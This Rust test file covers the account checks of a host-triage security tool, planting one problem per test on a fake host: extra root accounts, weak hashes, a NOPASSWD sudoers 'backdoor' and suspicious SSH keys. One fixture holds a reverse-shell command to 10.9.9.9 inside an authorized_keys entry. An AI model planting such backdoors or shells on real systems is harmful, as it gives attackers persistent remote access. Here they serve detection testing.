//! The accounts family against synthetic hosts: one planted problem per test.

mod common;

use common::*;
use rampart_core::{Report, Severity};
use rampart_triage::checks::accounts::Accounts;

fn run(h: &FakeHost) -> Report {
    h.run(&[Box::new(Accounts)])
}

fn append(h: &FakeHost, path: &str, text: &str) {
    let mut s = std::fs::read_to_string(h.path(path)).unwrap_or_default();
    s.push_str(text);
    h.write(path, s);
}

fn today() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
        / 86_400
}

const DUMMY_YESCRYPT: &str = "$y$j9T$abcdefghijklmnopqrstu.$0123456789012345678901234567890123456789012";

#[test]
fn clean_host_has_no_account_problems() {
    let h = FakeHost::new();
    let r = run(&h);
    assert!(r.errors.is_empty(), "{:#?}", r.errors);
    let bad: Vec<_> = r
        .findings
        .iter()
        .filter(|f| f.severity > Severity::Info)
        .collect();
    assert!(bad.is_empty(), "{bad:#?}");
    // The only info is alice in sudo.
    let sudo = expect_id(&r, "accounts.sudo-group");
    assert!(sudo.title.contains("alice"), "{}", sudo.title);
    assert_eq!(sudo.evidence[0].location, "/etc/group:4");
}

#[test]
fn second_uid0_account_is_critical() {
    let h = FakeHost::new();
    append(&h, "/etc/passwd", "toor:x:0:0::/root:/bin/bash\n");
    append(
        &h,
        "/etc/shadow",
        &format!("toor:{DUMMY_YESCRYPT}:19700:0:99999:7:::\n"),
    );
    let r = run(&h);
    let f = expect_id(&r, "accounts.uid0");
    assert_eq!(f.severity, Severity::Critical);
    assert_eq!(f.evidence[0].location, "/etc/passwd:7");
    assert_eq!(f.action.as_deref(), Some("account-lock user=toor"));
    assert_eq!(
        with_id(&r, "accounts.uid0").len(),
        1,
        "root itself is not reported"
    );
    expect_no_id(&r, "accounts.duplicate-uid");
}

#[test]
fn duplicate_uid() {
    let h = FakeHost::new();
    append(&h, "/etc/passwd", "bob:x:1000:1000::/home/bob:/bin/bash\n");
    append(&h, "/etc/shadow", "bob:!:19700:0:99999:7:::\n");
    let r = run(&h);
    let f = expect_id(&r, "accounts.duplicate-uid");
    assert!(
        f.title.contains("alice") && f.title.contains("bob"),
        "{}",
        f.title
    );
    assert_eq!(f.evidence.len(), 2);
}

#[test]
fn passwd_entry_without_shadow_and_the_reverse() {
    let h = FakeHost::new();
    append(&h, "/etc/passwd", "ghost:x:1001:1001::/home/ghost:/bin/bash\n");
    append(&h, "/etc/shadow", "orphan:!:19700:0:99999:7:::\n");
    let r = run(&h);
    let f = expect_id(&r, "accounts.no-shadow");
    assert!(f.title.contains("ghost"));
    assert_eq!(f.evidence[0].location, "/etc/passwd:7");
    let o = expect_id(&r, "accounts.shadow-orphan");
    assert!(o.title.contains("orphan"));
    assert_eq!(o.evidence[0].location, "/etc/shadow:7");
}

#[test]
fn unreadable_shadow_is_skipped_not_guessed() {
    let h = FakeHost::new();
    std::fs::remove_file(h.path("/etc/shadow")).unwrap();
    let r = run(&h);
    assert!(
        r.skipped.iter().any(|s| s.reason.contains("/etc/shadow")),
        "{:#?}",
        r.skipped
    );
    expect_no_id(&r, "accounts.no-shadow");
    expect_no_id(&r, "accounts.empty-password");
}

#[test]
fn empty_password_in_shadow_and_in_passwd() {
    let h = FakeHost::new();
    h.write(
        "/etc/shadow",
        CLEAN_SHADOW.replace(&format!("alice:{}", &CLEAN_SHADOW_ALICE()), "alice:"),
    );
    let r = run(&h);
    let f = expect_id(&r, "accounts.empty-password");
    assert_eq!(f.severity, Severity::Critical);
    assert!(f.title.contains("alice"));
    assert_eq!(f.evidence[0].location, "/etc/shadow:6");
    assert_eq!(f.action.as_deref(), Some("passwd-rotate user=alice"));

    let h = FakeHost::new();
    append(&h, "/etc/passwd", "nopw::1002:1002::/home/nopw:/bin/sh\n");
    let r = run(&h);
    let f = expect_id(&r, "accounts.empty-password");
    assert_eq!(f.evidence[0].location, "/etc/passwd:7");

    // A second root account with no password is locked, not given a new password.
    let h = FakeHost::new();
    append(&h, "/etc/passwd", "toor:x:0:0::/root:/bin/sh\n");
    append(&h, "/etc/shadow", "toor::19700:0:99999:7:::\n");
    let f = run(&h)
        .findings
        .into_iter()
        .find(|f| f.id == "accounts.empty-password")
        .unwrap();
    assert_eq!(f.action.as_deref(), Some("account-lock user=toor"));
}

#[allow(non_snake_case)]
fn CLEAN_SHADOW_ALICE() -> String {
    CLEAN_SHADOW
        .lines()
        .find(|l| l.starts_with("alice:"))
        .unwrap()
        .split(':')
        .nth(1)
        .unwrap()
        .to_string()
}

#[test]
fn legacy_hashes_and_hashes_in_passwd() {
    let h = FakeHost::new();
    h.write(
        "/etc/shadow",
        CLEAN_SHADOW.replace(&CLEAN_SHADOW_ALICE(), "$1$saltsalt$qjXMvbEw8oaL.CzflDugX/"),
    );
    let r = run(&h);
    let f = expect_id(&r, "accounts.legacy-hash");
    assert_eq!(f.severity, Severity::High);
    assert!(f.title.contains("MD5"), "{}", f.title);
    assert_eq!(f.action.as_deref(), Some("passwd-rotate user=alice"));
    expect_no_id(&r, "accounts.hash-in-passwd");

    let h = FakeHost::new();
    append(
        &h,
        "/etc/passwd",
        "old:abJnggxhB/yWI:1003:1003::/home/old:/bin/sh\n",
    );
    let r = run(&h);
    let f = expect_id(&r, "accounts.hash-in-passwd");
    assert_eq!(f.evidence[0].location, "/etc/passwd:7");
    let l = expect_id(&r, "accounts.legacy-hash");
    assert!(l.title.contains("DES"));
}

#[test]
fn system_account_with_shell_and_password() {
    let h = FakeHost::new();
    h.write(
        "/etc/passwd",
        CLEAN_PASSWD.replace(
            "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin",
            "daemon:x:1:1:daemon:/usr/sbin:/bin/bash",
        ),
    );
    // Shell but locked password: not reported.
    let r = run(&h);
    expect_no_id(&r, "accounts.system-login");
    h.write(
        "/etc/shadow",
        CLEAN_SHADOW.replace("daemon:*:", &format!("daemon:{DUMMY_YESCRYPT}:")),
    );
    let r = run(&h);
    let f = expect_id(&r, "accounts.system-login");
    assert_eq!(f.severity, Severity::High);
    assert_eq!(f.action.as_deref(), Some("account-lock user=daemon"));
    assert_eq!(f.evidence[0].location, "/etc/passwd:2");
}

#[test]
fn uid_min_from_login_defs() {
    let h = FakeHost::new();
    append(&h, "/etc/passwd", "svc:x:600:600::/srv/svc:/bin/bash\n");
    append(
        &h,
        "/etc/shadow",
        &format!("svc:{DUMMY_YESCRYPT}:19700:0:99999:7:::\n"),
    );
    assert_eq!(with_id(&run(&h), "accounts.system-login").len(), 1);
    h.write("/etc/login.defs", "UID_MIN 500\n");
    expect_no_id(&run(&h), "accounts.system-login");
}

#[test]
fn odd_and_lookalike_names() {
    let h = FakeHost::new();
    append(&h, "/etc/passwd", "r00t:x:1004:1004::/home/r00t:/bin/bash\nadmin :x:1005:1005::/home/a:/bin/sh\nBob:x:1006:1006::/home/Bob:/bin/sh\n");
    let r = run(&h);
    let odd = with_id(&r, "accounts.odd-name");
    assert_eq!(odd.len(), 3, "{odd:#?}");
    let r00t = odd.iter().find(|f| f.title.contains("r00t")).unwrap();
    assert_eq!(r00t.severity, Severity::High);
    assert!(r00t.title.contains("looks like root"));
    let space = odd.iter().find(|f| f.title.contains("\"admin \"")).unwrap();
    assert_eq!(space.severity, Severity::High);
    assert_eq!(
        space.action, None,
        "a name with a space cannot travel in an action"
    );
    assert!(space.remedy.contains("usermod -L"));
    assert_eq!(r00t.action.as_deref(), Some("account-lock user=r00t"));
    let bob = odd.iter().find(|f| f.title.contains("Bob")).unwrap();
    assert_eq!(bob.severity, Severity::Low);
}

#[test]
fn recently_created_account() {
    let h = FakeHost::new();
    append(&h, "/etc/passwd", "newbie:x:1007:1007::/home/newbie:/bin/bash\n");
    append(
        &h,
        "/etc/shadow",
        &format!("newbie:{DUMMY_YESCRYPT}:{}:0:99999:7:::\n", today() - 1),
    );
    let r = run(&h);
    let f = expect_id(&r, "accounts.recent");
    assert!(
        f.title.contains("newbie") && f.title.contains("password set"),
        "{}",
        f.title
    );
    assert_eq!(f.severity, Severity::Medium);
    assert!(f.evidence.iter().any(|e| e.location == "/etc/shadow:7"));
    // Older than the window: not recent.
    let h = FakeHost::new();
    append(&h, "/etc/passwd", "old:x:1007:1007::/home/old:/bin/bash\n");
    append(
        &h,
        "/etc/shadow",
        &format!("old:{DUMMY_YESCRYPT}:{}:0:99999:7:::\n", today() - 30),
    );
    expect_no_id(&run(&h), "accounts.recent");
}

#[test]
fn recent_home_counts_when_shadow_is_unreadable() {
    let h = FakeHost::new();
    std::fs::remove_file(h.path("/etc/shadow")).unwrap();
    h.mkdir("/home/alice");
    std::os::unix::fs::chown(h.path("/home/alice"), Some(1000), Some(1000)).ok();
    let r = run(&h);
    if std::fs::metadata(h.path("/home/alice"))
        .map(|m| std::os::unix::fs::MetadataExt::uid(&m))
        .ok()
        != Some(1000)
    {
        eprintln!("skipped: cannot chown without root");
        return;
    }
    let f = expect_id(&r, "accounts.recent");
    assert!(f.title.contains("home directory changed"), "{}", f.title);
}

#[test]
fn docker_group_members_are_root_equivalent() {
    let h = FakeHost::new();
    append(&h, "/etc/group", "docker:x:999:alice\nshadow:x:42:\n");
    let r = run(&h);
    let f = expect_id(&r, "accounts.root-group");
    assert_eq!(f.severity, Severity::Medium);
    assert!(
        f.title.contains("docker") && f.title.contains("alice"),
        "{}",
        f.title
    );
    assert_eq!(f.evidence[0].location, "/etc/group:7");
    assert_eq!(
        with_id(&r, "accounts.root-group").len(),
        1,
        "empty shadow group is fine"
    );
}

#[test]
fn sudoers_grants_with_includes() {
    let h = FakeHost::new();
    h.write_mode(
        "/etc/sudoers",
        "Defaults env_reset\n# bob ALL=(ALL) NOPASSWD: ALL\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n#include extra\n",
        0o440,
    );
    h.write_mode(
        "/etc/sudoers.d/90-backdoor",
        "bob ALL=(ALL) NOPASSWD: ALL\n",
        0o440,
    );
    h.write_mode(
        "/etc/sudoers.d/skipped.bak",
        "eve ALL=(ALL) NOPASSWD: ALL\n",
        0o440,
    );
    h.write_mode(
        "/etc/extra",
        "deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app \\\n    , /usr/bin/journalctl\n",
        0o440,
    );
    let r = run(&h);
    let nopw = with_id(&r, "accounts.sudo-nopasswd");
    assert_eq!(nopw.len(), 2, "{nopw:#?}");
    let bob = nopw.iter().find(|f| f.title.starts_with("bob")).unwrap();
    assert_eq!(bob.severity, Severity::High);
    assert_eq!(bob.evidence[0].location, "/etc/sudoers.d/90-backdoor:1");
    let deploy = nopw.iter().find(|f| f.title.starts_with("deploy")).unwrap();
    assert_eq!(deploy.severity, Severity::Medium);
    assert_eq!(deploy.evidence[0].location, "/etc/extra:1");
    assert!(
        !r.findings.iter().any(|f| f.title.contains("eve")),
        "files with a dot are skipped, as sudo does"
    );
    let all = with_id(&r, "accounts.sudo-all");
    assert_eq!(all.len(), 2);
    assert!(all.iter().all(|f| f.severity == Severity::Info));
}

#[test]
fn sudoers_include_loop_is_an_error_not_a_hang() {
    let h = FakeHost::new();
    h.write("/etc/sudoers", "@include /etc/sudoers\nmallory ALL=(ALL) ALL\n");
    let r = run(&h);
    assert!(
        r.errors.iter().any(|e| e.subject == "/etc/sudoers"),
        "{:#?}",
        r.errors
    );
    let f = expect_id(&r, "accounts.sudo-all");
    assert_eq!(f.severity, Severity::Medium, "a direct grant to a user");
}

#[test]
fn sudoers_symlink_loop_names_the_file() {
    let h = FakeHost::new();
    h.write("/etc/sudoers", "#includedir /etc/sudoers.d\n");
    h.symlink("/etc/sudoers.d/b", "/etc/sudoers.d/a");
    h.symlink("/etc/sudoers.d/a", "/etc/sudoers.d/b");
    let r = run(&h);
    let e = r
        .errors
        .iter()
        .find(|e| e.subject == "/etc/sudoers.d/a")
        .unwrap_or_else(|| panic!("{:#?}", r.errors));
    assert!(e.message.contains("symbolic links"), "{e:?}");
}

#[test]
fn authorized_keys_are_listed_without_key_material() {
    let h = FakeHost::new();
    let blob = "AAAAC3NzaC1lZDI1NTE5AAAAIKEYMATERIALSHOULDNEVERAPPEAR";
    h.write(
        "/root/.ssh/authorized_keys",
        format!("ssh-ed25519 {blob} admin@laptop\nfrom=\"10.0.0.5\" ssh-ed25519 {blob} backup\n"),
    );
    let r = run(&h);
    let f = expect_id(&r, "accounts.authorized-keys");
    assert!(f.title.contains("root has 2 SSH key(s)"), "{}", f.title);
    assert!(f.title.contains("ssh-ed25519"));
    assert_eq!(f.evidence.len(), 2);
    assert_eq!(f.evidence[0].location, "/root/.ssh/authorized_keys:1");
    assert!(f.evidence[0].detail.contains("admin@laptop"));
    // Changed just now and root keys without from=: worth a look, not an alarm.
    assert_eq!(f.severity, Severity::Medium);
    let json = serde_json::to_string(&r.findings).unwrap();
    assert!(!json.contains("KEYMATERIAL"), "{json}");
}

#[test]
fn keys_of_a_system_account_are_high() {
    let h = FakeHost::new();
    h.write(
        "/var/www/.ssh/authorized_keys",
        "command=\"/bin/bash -i >& /dev/tcp/10.9.9.9/443 0>&1\" ssh-rsa AAAAB3NzaC1yc2EAAAADAQAB x\n",
    );
    let r = run(&h);
    let f = expect_id(&r, "accounts.authorized-keys");
    assert_eq!(f.severity, Severity::Critical, "{f:#?}");
    assert!(f.title.contains("www-data is a system account"));
    assert_eq!(f.action.as_deref(), Some("account-lock user=www-data"));
}

#[test]
fn authorized_keys_file_from_sshd_config() {
    let h = FakeHost::new();
    h.write("/etc/ssh/sshd_config", "AuthorizedKeysFile /etc/ssh/keys/%u\n");
    h.write(
        "/etc/ssh/keys/alice",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 alice@x\n",
    );
    let r = run(&h);
    let f = expect_id(&r, "accounts.authorized-keys");
    assert_eq!(f.evidence[0].location, "/etc/ssh/keys/alice:1");
}

#[test]
fn garbage_in_passwd_and_shadow_is_reported_and_the_rest_still_checked() {
    let h = FakeHost::new();
    let mut passwd = CLEAN_PASSWD.as_bytes().to_vec();
    passwd.extend_from_slice(b"\x00\x01\xff\xfe garbage \x7fELF\n");
    passwd.extend_from_slice(b"toor:x:0:0::/root:/bin/bash\n");
    h.write("/etc/passwd", passwd);
    let mut shadow = CLEAN_SHADOW.as_bytes().to_vec();
    shadow.extend_from_slice(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\n");
    h.write("/etc/shadow", shadow);
    let r = run(&h);
    assert!(
        r.errors.iter().any(|e| e.subject == "/etc/passwd:7"),
        "{:#?}",
        r.errors
    );
    assert!(
        r.errors.iter().any(|e| e.subject.starts_with("/etc/shadow:")),
        "{:#?}",
        r.errors
    );
    expect_id(&r, "accounts.uid0");
}

#[test]
fn findings_never_contain_hashes() {
    let h = FakeHost::new();
    let hashes = [
        "$6$SECRETSALTxyz$RECOGNISABLEHASHsha512AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "$1$MD5SALT1$RECOGNISABLEMD5HASHzz",
        "xyRECOGNIS42",
        "$y$j9T$YESCRYPTSALTRECOG$RECOGNISABLEYESCRYPTHASHBBBBBBBBBBBBBBBBBBBB",
    ];
    append(
        &h,
        "/etc/passwd",
        &format!("legacy:{}x:1010:1010::/home/legacy:/bin/sh\n", &hashes[2][..12]),
    );
    append(&h, "/etc/passwd", "md5user:x:1011:1011::/home/m:/bin/sh\nsha:x:1012:1012::/home/s:/bin/sh\ndaemon2:x:5:5::/:/bin/bash\n");
    append(
        &h,
        "/etc/shadow",
        &format!(
            "md5user:{}:{}:0:99999:7:::\nsha:{}:19700:0:99999:7:::\ndaemon2:{}:19700::::::\n",
            hashes[1],
            today(),
            hashes[0],
            hashes[3]
        ),
    );
    let r = h.run_all();
    // The planted accounts were looked at…
    expect_id(&r, "accounts.legacy-hash");
    expect_id(&r, "accounts.system-login");
    expect_id(&r, "accounts.recent");
    // …and nothing of their hashes came out, in findings, errors or skips.
    let json = serde_json::to_string(&(&r.findings, &r.errors, &r.skipped)).unwrap();
    for needle in [
        "SECRETSALT",
        "RECOGNIS",
        "MD5SALT",
        "YESCRYPTSALT",
        "qjXMvbEw8oaL",
    ] {
        assert!(!json.contains(needle), "{needle} leaked: {json}");
    }
}
